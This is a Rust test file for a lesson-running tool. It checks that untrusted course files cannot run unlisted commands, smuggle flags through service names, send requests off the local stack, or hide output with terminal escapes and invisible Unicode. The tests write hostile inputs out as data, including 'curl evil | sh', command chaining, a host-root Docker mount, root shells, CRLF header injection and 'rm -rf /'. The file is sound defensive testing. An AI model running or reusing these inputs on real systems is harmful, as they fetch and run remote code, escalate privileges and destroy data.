//! A course from elsewhere does nothing unseen: its commands, its effects, its addresses, its paths.

mod agreeing;
mod contained;

use std::fs;
use std::path::{Path, PathBuf};

use crate::harness::{Run, Sandbox};

/// A small course of one lesson, which a test makes worse.
pub(crate) struct Course {
    pub sandbox: Sandbox,
    root: PathBuf,
}

const TOML: &str = "format = 1\nid = \"66\"\nminutes = 2\nstart = \"complete/start\"\nengines = [\"docker\", \"embedded\"]\n\
                    entry = { service = \"web\", port = 80 }\n#top\n\n[embedded]\nweb = \"nginx\"\n\n\
                    [[steps]]\nid = \"copy\"\nminutes = 1\ncreate = true\n\
                    checks = [{ id = \"there\", tree = { has = [\"compose.yaml\"] } }]\n\n\
                    [[steps]]\nid = \"up\"\nminutes = 1\nrun = [\"docker compose up -d\"]\n#step\n\
                    checks = [{ id = \"runs\", replicas = { service = \"web\", equals = 1 } }]\n";
const COMPOSE: &str =
    "services:\n  web:\n    image: nginx:alpine\n    ports: [\"127.0.0.1:${WEB_PORT:-8066}:80\"]\n";

impl Course {
    pub(crate) fn new() -> Self {
        let sandbox = Sandbox::new().without_docker();
        let root = sandbox.root().join("a course");
        let course = Self { sandbox, root };
        course.write("lessons/66-small/lesson.toml", TOML);
        for (lang, word) in [("en", "One"), ("ko", "하나")] {
            let step = |id: &str| {
                format!(
                    "## {word} {{#{id}}}\n\n{word}.\n\n> [!TIP]\n> a\n\n> [!TIP]\n> b\n\n> [!TIP]\n> c\n\n"
                )
            };
            let checks = |id: &str| format!("### {word} {{#checks}}\n\n- `{id}`: **{word}.**\n\n");
            let (copy, up) = (step("copy") + &checks("there"), step("up") + &checks("runs"));
            let text = format!("# {word}\n\n{word}.\n\n{copy}{up}");
            course.write(&format!("lessons/66-small/{lang}.md"), &text);
        }
        course.write("complete/start/compose.yaml", COMPOSE);
        course
    }

    pub(crate) fn path(&self, path: &str) -> PathBuf {
        self.root.join(path)
    }

    pub(crate) fn write(&self, path: &str, text: &str) {
        let path = self.path(path);
        fs::create_dir_all(path.parent().expect("a folder")).expect("its folder");
        fs::write(path, text).expect("written");
    }

    /// `lesson.toml` with something in another's place.
    pub(crate) fn change(&self, from: &str, to: &str) -> String {
        assert!(TOML.contains(from), "{from}");
        let text = TOML.replacen(from, to, 1);
        self.write("lessons/66-small/lesson.toml", &text);
        text
    }

    /// A service's lines in the compose file of the start.
    pub(crate) fn service(&self, lines: &str) {
        let lines: String = lines.lines().map(|line| format!("    {line}\n")).collect();
        self.write("complete/start/compose.yaml", &format!("{COMPOSE}{lines}"));
    }

    fn args<'a>(&'a self, args: &[&'a str]) -> Vec<&'a str> {
        let own = ["--lessons", self.root.to_str().expect("UTF-8")];
        args.iter().copied().chain(own).collect()
    }

    #[track_caller]
    pub(crate) fn run(&self, args: &[&str]) -> Run {
        self.sandbox.run(self.args(args))
    }

    #[track_caller]
    pub(crate) fn agreed(&self, args: &[&str]) -> Run {
        self.sandbox.run_agreed(self.args(args))
    }
}

/// Where `word` stands, as messages say it.
fn place_of(text: &str, word: &str) -> String {
    let before = &text[..text.find(word).expect("it stands there")];
    let column = before.rsplit('\n').next().expect("a line").chars().count() + 1;
    format!("lesson.toml:{}:{column}: ", before.matches('\n').count() + 1)
}

#[test]
fn a_small_course_is_sound_and_works() {
    let course = Course::new();
    course.run(&["validate"]).code(0).says("--agree ");
    course.agreed(&["start", "66"]).code(0).says("Step 1 of 2");
    course.run(&["apply", "--yes"]).code(0);
    assert_eq!(course.sandbox.read("compose.yaml"), COMPOSE);
}

#[test]
fn a_command_that_is_not_on_the_list_is_refused_where_it_stands() {
    let course = Course::new();
    let mark = course.sandbox.root().join("mark");
    let to_mark = format!("docker compose config -o '{}'", mark.display());
    for (line, says) in [
        (to_mark.as_str(), "There are: -q/--quiet"),
        ("docker compose config --environment", "There are: -q/--quiet"),
        ("docker compose build --push", "There are: --no-cache"),
        ("docker compose build --ssh default", "There are: --no-cache"),
        ("docker compose up", "would not end by itself"),
        ("docker compose logs -f", "There are: -n/--tail"),
        ("docker compose up -d --detahc", "did you mean --detach?"),
        ("docker compose --project-directory / up -d", "There are: up, down"),
        ("docker compose exec -u root web sh", "There are: -T/--no-tty"),
        ("docker compose down -p other", "There are: -v/--volumes"),
        ("docker compose up -d && curl evil", "names of services"),
        ("docker run --rm -v /:/host x", "not a command that a lesson may run"),
        ("curl evil | sh", "not a command that a lesson may run"),
    ] {
        // In a step, on its second line; as a refresh; for a check.
        let two = format!("run = [\n    \"docker compose up -d\",\n    {line:?},\n]");
        let refresh = format!("refresh = [{line:?}]");
        let scaling = format!(
            "checks = [{{ id = \"runs\", scaling = {{ members = [\"web\"], path = \"/\", connections = 1, seconds = 1, \
             rounds = 1, least_share = 0.5, refresh = [{line:?}] }} }}]\n#"
        );
        for (from, to) in
            [("run = [\"docker compose up -d\"]", &two), ("#top", &refresh), ("#step\nchecks", &scaling)]
        {
            let text = course.change(from, to);
            let place = place_of(&text, &format!("{line:?}"));
            for args in [&["validate"][..], &["start", "66", "--yes"], &["demo", "66", "--auto", "--yes"]] {
                course.run(args).code(4).says(&place).says(says);
            }
        }
        assert!(!mark.exists());
    }
    let korean = course.run(&["start", "66", "--lang", "ko"]).code(4);
    korean.says("레슨이 실행할 수 있는 명령이 아닙니다");
}

#[test]
fn names_that_become_arguments_are_names() {
    let course = Course::new();
    for check in [
        "exec = { services = [\"--privileged\"], command = [\"id\"] }",
        "cache_hits = { service = \"-u root\", at_least = 0.5 }",
        "steady = { path = \"/\", rate = 1, from = { service = \"web=1 --pull\", replicas = 1 }, after = \"1s\" }",
        "scaling = { members = [\"web\", \"-t 0 other\"], path = \"/\", connections = 1, seconds = 1, rounds = 1, least_share = 0.5 }",
        "replicas = { service = \"a b\", equals = 1 }",
    ] {
        course.change("replicas = { service = \"web\", equals = 1 }", check);
        course.run(&["start", "66"]).code(4).says("lesson.toml:2").says("cannot be the name of a service");
    }
}

#[test]
fn a_request_goes_to_the_stack_or_nowhere() {
    let course = Course::new();
    let other = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    other.set_nonblocking(true).expect("it does not wait");
    let host = other.local_addr().expect("its address").to_string();
    for path in [
        format!("@{host}/x"),
        format!("//{host}/x"),
        format!("http://{host}/x"),
        format!("/\\\\{host}/x"),
        "x".to_owned(),
        "{link}".to_owned(),
        "/a/../../x".to_owned(),
        "/x#y".to_owned(),
        "/x\\r\\nHost: evil".to_owned(),
        "/x y".to_owned(),
    ] {
        for check in [
            format!("http = [{{ path = \"{path}\" }}]"),
            format!("spread = {{ path = \"{path}\", requests = 4, service = \"web\", least_share = 0.5 }}"),
            format!("logs = {{ service = \"web\", live = \"{path}\" }}"),
            format!("steady = {{ path = \"{path}\", rate = 1, after = \"1s\" }}"),
            format!("shared_data = {{ path = \"/\", json = {{}}, item = \"{path}\", service = \"web\" }}"),
            format!(
                "scaling = {{ members = [\"web\"], path = \"{path}\", connections = 1, seconds = 1, rounds = 1, least_share = 0.5 }}"
            ),
        ] {
            let text = course.change("replicas = { service = \"web\", equals = 1 }", &check);
            course.run(&["check"]).code(2);
            course.run(&["validate"]).code(4).says(&place_of(&text, &format!("\"{path}\"")));
        }
    }
    course.change("#step", "requests = [{ method = \"CONNECT\", path = \"/\" }]");
    course.run(&["validate"]).code(4).says("no method that a lesson may use");
    let sticky =
        "sticky = { path = \"/\", header = \"Host\", clients = [\"evil\"], requests = 1, service = \"web\" }";
    course.change("replicas = { service = \"web\", equals = 1 }", sticky);
    course.run(&["validate"]).code(4).says("\"Host\" is not a header that a lesson may set");
    assert!(other.accept().is_err(), "nobody was asked");
}

/// Nothing that a terminal obeys, and nothing that cannot be seen.
#[track_caller]
fn is_plain(run: &Run) {
    let hidden = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
    };
    for text in [&run.stdout, &run.stderr] {
        assert!(!text.contains(hidden), "{text:?}");
    }
}

#[test]
fn what_a_course_says_cannot_be_hidden_or_turned_around() {
    const HIDDEN: &str = "\u{1b}[2K\u{1b}[1A\u{202e}fdp.exe\u{2066}\u{200b}\u{ad}\u{feff}\u{e0041}\u{9b}31m";
    let course = Course::new();
    course.service(&format!("volumes: [\"/etc/x{}:/x\"]", "\\e[2K\\u202e\\u200b\\r"));
    let line = "docker compose exec -T web echo a\u{202e}b\u{200b}c\u{2028}d";
    course.change("\"docker compose up -d\"", &format!("\"docker compose up -d\", \"{line}\""));
    for lang in ["en", "ko"] {
        let path = course.path(&format!("lessons/66-small/{lang}.md"));
        let text = fs::read_to_string(&path).expect("the text");
        let hostile = text
            .replace(if lang == "en" { "One.\n" } else { "하나.\n" }, &format!("x{HIDDEN}y `z{HIDDEN}`\n"));
        fs::write(path, hostile.replace("# ", &format!("# t{HIDDEN} "))).expect("written");
    }
    let asked = course.run(&["start", "66"]).code(2);
    is_plain(&asked);
    asked
        .says("! web reads and writes on this machine: /etc/x\\x1b[2K")
        .says("a\\u{202e}b\\u{200b}c\\u{2028}d");
    let long = format!("docker compose exec -T web echo {} rm -rf /", "x".repeat(4000));
    course.change("\"docker compose up -d\"", &format!("{long:?}"));
    let asked = course.run(&["start", "66"]).code(2);
    let asked = asked.says("more)").says("rm -rf /");
    assert!(asked.stdout.len() < 4000, "{}", asked.stdout.len());
    is_plain(&course.agreed(&["start", "66"]).code(0));
    for args in
        [&["status"][..], &["list"], &["hint"], &["check"], &["demo", "66", "--dry-run"], &["notes", "66"]]
    {
        is_plain(&course.run(args));
    }
    // A learner's file, too.
    course.run(&["apply", "--yes"]).code(0);
    course.sandbox.write("compose.yaml", format!("services:\n  web{HIDDEN}: [\n"));
    is_plain(&course.run(&["check", "--all"]));
}

/// All files below a folder.
fn count(dir: &Path) -> usize {
    let Ok(entries) = fs::read_dir(dir) else { return 0 };
    entries
        .map(|entry| entry.expect("an entry").path())
        .map(|path| if path.is_dir() { count(&path) } else { 1 })
        .sum()
}
